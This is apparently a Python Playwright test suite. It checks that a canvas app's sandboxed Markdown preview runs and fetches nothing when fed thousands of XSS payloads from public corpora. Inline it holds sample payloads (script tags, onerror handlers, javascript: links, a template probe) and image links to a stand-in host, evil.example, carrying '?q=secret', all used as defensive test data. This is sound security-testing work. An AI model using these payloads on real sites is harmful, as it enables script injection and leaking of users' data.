"""The preview in a real browser: what thousands of payloads try to run or to fetch, nothing of it happens (R35).

Each payload stands in a canvas as it is, as the address of a link and of an image, as a title, as the words of an image
and in a table; many in one canvas, which the real page opens and shows under our own policy. That the same watch sees
what there is to see is tested on a page without any of our nets.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import partial
from typing import Final

import httpx2
import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright

from canvas_server.web.preview.markdown import LINK
from canvas_server.web.preview.sanitise import ATTRIBUTES, TAGS
from tests.proof.findings import Findings
from tests.proof.lane import BY_HAND
from tests.serving import IN_MEMORY, Served, serving
from tests.web.corpora import corpus, naughty_texts
from tests.web.editor_page import wait_text
from tests.web.outside import Outside, outside
from tests.web.test_page_files import require

PATIENCE_MS: Final = 15_000
PATIENCE_S: Final = 30.0
PER_CANVAS: Final = 150
CANVAS_CHARS_MAX: Final = 250_000
SAMPLE_EVERY: Final = 1 if BY_HAND else 12

pytestmark = [pytest.mark.browser, pytest.mark.slow]

IN_FRAME: Final = """() => {
  const found = new Set();
  for (const one of document.querySelectorAll("body, body *")) {
    const attributes = [...one.attributes].map((attribute) => attribute.name);
    for (const name of ["", ...attributes]) found.add(`${one.localName} ${name} ${one.namespaceURI}`);
  }
  return [...found];
}"""
LINKS: Final = "() => [...document.links].map((link) => [link.href, link.rel, link.target])"
STRANGE: Final = """() => [...document.querySelectorAll(
  "script:not([src^='/page/']), img:not([src^='/page/'], .cm-widgetBuffer), " +
  "link:not([href^='/page/'], [href^='/client/']), iframe:not([sandbox]), " +
  "svg, math, object, embed, video, audio, base, meta[http-equiv], style, marquee, [style]:not(.cm-editor *), " +
  "[srcdoc]:not(#preview iframe)"
)].concat([...document.querySelectorAll("*")].filter((one) =>
  [...one.attributes].some((attribute) => attribute.name.startsWith("on")))).map((one) => one.outerHTML)"""
GLOBALS: Final = "() => Object.getOwnPropertyNames(window)"
WATCH: Final = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
"""


@dataclass
class Watch:
    """What a page did that it should not have."""

    origin: str
    world: Outside
    dialogs: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    popups: int = 0

    def over(self, page: Page) -> None:
        """Watch a page."""
        page.on("dialog", self._dialog)
        page.on(
            "console", lambda message: self.said.append(message.text) if message.type in ("error", "warning") else None
        )
        page.on("pageerror", lambda error: self.said.append(str(error)))
        page.on("request", lambda request: self._request(request.url))
        page.on("popup", lambda _popup: setattr(self, "popups", self.popups + 1))
        page.add_init_script(WATCH)

    def nothing_happened(self) -> None:
        assert self.dialogs == []
        assert self.said == []
        assert self.asked == []
        assert self.world.heard == []
        assert self.popups == 0

    def _dialog(self, dialog: object) -> None:
        self.dialogs.append(str(dialog))
        dialog.dismiss()  # type: ignore[attr-defined]

    def _request(self, url: str) -> None:
        if not url.startswith((f"{self.origin}/", "data:", "about:")):
            self.asked.append(url)


@pytest.fixture
def world() -> Iterator[Outside]:
    with outside() as world:
        yield world


@pytest.fixture
def browser(world: Outside) -> Iterator[Browser]:
    """A browser for one test: what another asked for may still be tried again."""
    with (
        sync_playwright() as playwright,
        playwright.chromium.launch(executable_path=require("chromium"), args=world.args) as browser,
    ):
        yield browser


@pytest.fixture(scope="module")
def here() -> Iterator[Served]:
    with serving(IN_MEMORY) as running:
        yield running


def payloads() -> list[str]:
    """Return what has broken other sanitisers: all of it by hand, else a part of each list."""
    told = json.loads(corpus("dompurify_payloads.json"))
    listed = corpus("xss-payload-list.txt").decode(errors="replace").splitlines()
    leaks = corpus("httpleaks.html").decode()
    some = [*(one["payload"] for one in told), *listed]
    return [leaks, *leaks.split("\n\n"), *(text.replace("\0", "").replace("\r", "") for text in some[::SAMPLE_EVERY])]


def placed(payload: str) -> str:
    """Return a payload at every place of a text where Markdown makes something of it."""
    line = payload.replace("\n", " ")
    return "\n\n".join(
        [
            payload,
            f"[x]({line}) ![y]({line}) [x](<{line}>) ![y](<{line}> '{line}')",
            f"<{line}> ![{line}](https://evil.example/?q=secret)",
            f"|a|\n|-|\n|{line}|",
        ]
    )


def canvases(texts: Sequence[str]) -> Iterator[str]:
    """Yield texts of canvases that hold them all."""
    held: list[str] = []
    for text in texts:
        if held and (len(held) == PER_CANVAS or sum(map(len, held)) + len(text) > CANVAS_CHARS_MAX):
            yield "\n\n".join(held)
            held = []
        held.append(text)
    yield "\n\n".join(held)


def shown(page: Page, served: Served, ref: str, marker: str) -> None:
    """Open a canvas with its preview, and wait until that is drawn."""
    page.evaluate("(ref) => { location.hash = `#/c/${ref}`; }", ref)
    if page.locator("#view-preview").get_attribute("aria-pressed") == "false":
        page.locator("#view-preview").click()
    frame = page.frame_locator("#preview iframe:not(.coming)")
    expect(frame.get_by_role("heading", name=marker, exact=True)).to_be_visible(timeout=PATIENCE_MS)


def assert_listed(page: Page) -> None:
    """Check what a browser made of it: elements, attributes, namespaces, addresses; in a frame of no origin."""
    sandbox = page.locator("#preview iframe").get_attribute("sandbox")
    assert sandbox == "allow-popups allow-popups-to-escape-sandbox"
    assert page.evaluate("document.querySelector('#preview iframe').contentDocument") is None
    frame = page.frames[-1]
    allowed = {f"{tag} " for tag in (*TAGS, "body")} | {"body class", "span class", "th align", "td align"}
    allowed |= {f"{tag} {name}" for tag, names in ATTRIBUTES.items() for name in (*names, "class", "rel", "target")}
    found: list[str] = frame.evaluate(IN_FRAME)
    assert {one.rpartition(" ")[0] for one in found} <= allowed
    assert {one.rpartition(" ")[2] for one in found} == {"http://www.w3.org/1999/xhtml"}
    for address, rel, target in frame.evaluate(LINKS):
        assert LINK.match(address), address
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")


@pytest.mark.promise("R35")
@pytest.mark.timeout(300 if not BY_HAND else 1_200)
def test_the_preview_runs_nothing_and_fetches_nothing(
    browser: Browser, here: Served, world: Outside, findings: Findings
) -> None:
    page, watch = browser.new_context().new_page(), Watch(here.url, world)
    watch.over(page)
    page.goto(here.url)
    expect(page.locator("#list-status")).to_have_text(
        "" if page.locator("#list li").count() else "Aucun canvas pour l’instant."
    )
    before = set(page.evaluate(GLOBALS))
    found = payloads()
    opened = 0
    for number, text in enumerate(canvases([placed(payload) for payload in found])):
        canvas = here.canvas(f"# Marker {number}\n\n{text}")
        shown(page, here, canvas.ref, f"Marker {number}")
        assert_listed(page)
        assert page.evaluate(STRANGE) == []
        watch.nothing_happened()
        opened += 1
    assert {name for name in page.evaluate(GLOBALS) if not name.isdigit()} - before <= {"violations"}
    assert page.evaluate("window.violations") == []
    watch.nothing_happened()
    findings.tell("R35", "payloads previewed in Chromium", f"{len(found)}, each in 8 places, in {opened} canvases")
    findings.tell("R35", "scripts run, dialogs, requests to others, violations, errors", "0, 0, 0, 0, 0", "none")
    page.context.close()


def wait_until(page: Page, condition: Callable[[], bool]) -> None:
    """Wait until something is seen that comes by itself."""
    deadline_s = time.monotonic() + PATIENCE_S
    while not condition():
        assert time.monotonic() < deadline_s
        page.wait_for_timeout(50)


def served_bare(html: str, route: Route) -> None:
    route.fulfill(body=html, content_type="text/html")


def test_the_watch_sees_what_happens_where_there_is_no_net(browser: Browser, here: Served, world: Outside) -> None:
    """The same payloads, rendered as Markdown with HTML, on a page of the same origin without any policy."""
    page, watch = browser.new_context().new_page(), Watch(here.url, world)
    watch.over(page)
    # One that opens what it does not close, or that has a policy of its own, would hide the others.
    tags = [text for text in payloads() if re.fullmatch(r"<(img|svg|details|body|input|video|marquee)[^<>]*>", text)]
    leaks = [text for text in corpus("httpleaks.html").decode().split("\n\n") if "Content-Security-Policy" not in text]
    seen: dict[str, Callable[[], bool]] = {
        "tags": lambda: len(watch.dialogs) > 0,
        "leaks": lambda: min(len(watch.asked), len(world.heard)) > 20,
    }
    for name, texts in (("tags", tags), ("leaks", leaks)):
        html = MarkdownIt("commonmark", {"html": True}).render("\n\n".join(texts))
        page.route(f"{here.url}/{name}", partial(served_bare, html))
        page.goto(f"{here.url}/{name}", wait_until="commit")
        wait_until(page, seen[name])
    page.context.close()


def test_without_the_nets_of_the_server_the_policy_still_holds_and_says_so(
    browser: Browser, here: Served, world: Outside
) -> None:
    """A bug that let everything through would be seen by the test above, and would still run and fetch nothing."""
    page, watch = browser.new_context().new_page(), Watch(here.url, world)
    watch.over(page)
    html = MarkdownIt("commonmark", {"html": True}).render(
        "# Bare\n\n" + "\n\n".join(payload for payload in payloads()[-300:] if "</" not in payload[:2])
    )

    def leave_bare(route: Route) -> None:
        route.fulfill(
            json={
                "ref": "x",
                "version": "x",
                "html": html + "<img src=https://evil.example/x><script>alert(1)</script>",
            }
        )

    page.route("**/preview", leave_bare)
    page.goto(here.url)
    shown(page, here, here.canvas("x").ref, "Bare")
    wait_until(page, lambda: len(watch.said) > 20)
    page.wait_for_timeout(500)
    assert watch.dialogs == []
    assert world.heard == []
    page.context.close()


def test_a_link_of_the_preview_opens_a_window_of_its_own_and_says_nothing_of_the_canvas(
    browser: Browser, here: Served, world: Outside
) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(here.url)
    shown(page, here, here.canvas("# M\n\n![pont](http://evil.example/?q=secret)").ref, "M")
    assert world.heard == []
    with context.expect_page() as opening:
        page.frame_locator("#preview iframe:not(.coming)").get_by_role("link", name="▣ pont (evil.example)").click()
    opened = opening.value
    wait_until(opened, lambda: world.heard != [])
    assert world.heard[0] == "GET /?q=secret HTTP/1.1\r\n"
    assert opened.evaluate("window.opener") is None
    assert opened.evaluate("document.referrer") == ""
    context.close()


def test_the_preview_follows_the_canvas_and_keeps_its_place(browser: Browser, here: Served) -> None:
    canvas = here.canvas("# M\n\n" + "\n\n".join(f"Paragraph {number}." for number in range(100)))
    page = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if request.url.endswith("/preview") else None)
    page.goto(here.url)
    shown(page, here, canvas.ref, "M")
    frame = page.frame_locator("#preview iframe:not(.coming)")
    pane = "document.querySelector('#preview')"
    page.evaluate(f"{pane}.scrollTop = 700")
    canvas.submit(
        {
            "op_id": "typed",
            "action": "insert",
            "target": {"type": "position", "position": {"mode": "end"}},
            "content": "\n\nTyped.",
        }
    )
    expect(frame.get_by_text("Typed.")).to_be_attached(timeout=PATIENCE_MS)
    assert page.evaluate(f"{pane}.scrollTop") == 700
    height = page.frames[-1].evaluate(
        "[document.documentElement.scrollHeight - innerHeight, innerHeight - document.body.offsetHeight]"
    )
    assert height[0] <= 0, "the frame scrolls, too"
    assert height[1] < 8, "there is nothing under the text"
    page.locator("#view-text").click()
    wait_text(page, lambda text: text.endswith("Typed."))
    count = len(asked)
    canvas.submit(
        {
            "op_id": "typed-2",
            "action": "insert",
            "target": {"type": "position", "position": {"mode": "end"}},
            "content": " More.",
        }
    )
    wait_text(page, lambda text: text.endswith("Typed. More."))
    assert len(asked) == count, "nobody looks at it"
    page.locator("#view-preview").click()
    expect(frame.get_by_text("Typed. More.")).to_be_attached(timeout=PATIENCE_MS)
    page.context.close()


def test_a_canvas_that_cannot_be_previewed_says_so_in_the_language_of_the_page(browser: Browser, here: Served) -> None:
    page = browser.new_context().new_page()
    page.goto(f"{here.url}/#/c/{here.canvas('x' * 600_000).ref}")
    page.locator("#view-preview").click()
    expect(page.locator("#preview-status")).to_contain_text("trop long ou trop compliqué", timeout=PATIENCE_MS)
    page.get_by_role("button", name="EN, English").click()
    expect(page.locator("#preview-status")).to_contain_text("too long or too complicated")
    page.context.close()


@pytest.mark.promise("R35")
def test_no_text_of_anybody_becomes_markup_anywhere_on_the_page(browser: Browser, here: Served, world: Outside) -> None:
    """Titles, names, the text, the events, the words of a refusal: with strings that broke other pages."""
    page, watch = browser.new_context().new_page(), Watch(here.url, world)
    watch.over(page)
    marked = [text for text in payloads() if "<" in text]
    titles = [text.strip()[:250] for text in marked if text.strip() and text.isprintable()][:: 4 if BY_HAND else 40]
    titles += [
        "<img src=//evil.example/x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "javascript:alert(1)",
    ]
    text = "\n".join([*marked[:2_000], *naughty_texts()[:1_000]])[:200_000]
    canvas = here.canvas(text, title=titles[0])
    page.goto(f"{here.url}/#/c/{canvas.ref}")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open", timeout=PATIENCE_MS)
    assert wait_text(page, lambda shown: shown == text) == text
    made = "(pane) => [...new Set([...pane.querySelectorAll('*')].map((one) => one.localName))]"
    assert set(page.locator("#text").evaluate(made)) <= {"div", "span", "br", "img"}
    refused: list[str] = []

    def refuse(route: Route) -> None:
        if route.request.method != "PATCH":
            route.fallback()
            return
        told = {"status": 422, "code": refused[-1], "detail": refused[-1], "hint": refused[-1], "title": refused[-1]}
        route.fulfill(status=422, body=json.dumps(told), content_type="application/problem+json")

    page.route(f"**/canvas/{canvas.ref}", refuse)
    for number, title in enumerate(titles):
        canvas.http.patch(canvas.path, json={"title": title}).raise_for_status()
        said = {"name": title[:80], "section": title[:80], "client_id": f"c{number % 8}", "ttl_ms": 20_000}
        present(canvas.http, canvas.path, said)
        canvas.submit(
            {
                "op_id": f"n-{number}",
                "action": "insert",
                "target": {"type": "position", "position": {"mode": "end"}},
                "content": title,
                "meta": {"note": title},
            }
        )
        expect(page.locator("#room-title")).to_have_text(title, use_inner_text=False)
        refused.append(title)
        page.locator("#rename").click()
        expect(page.locator("#notice")).to_contain_text(title.strip()[1:], timeout=PATIENCE_MS)
        assert page.evaluate(STRANGE) == []
    page.locator("#delete").click()
    expect(page.locator("#delete-what")).to_contain_text(titles[-1])
    assert page.evaluate(STRANGE) == []
    watch.said = [line for line in watch.said if "status of 422" not in line]
    watch.nothing_happened()
    page.context.close()


def present(http: httpx2.Client, path: str, said: dict[str, object]) -> None:
    body = {key: value for key, value in said.items() if key != "client_id"}
    headers = {"X-Client-Id": str(said["client_id"])}
    assert http.post(f"{path}/presence", json=body, headers=headers).status_code in (204, 422)
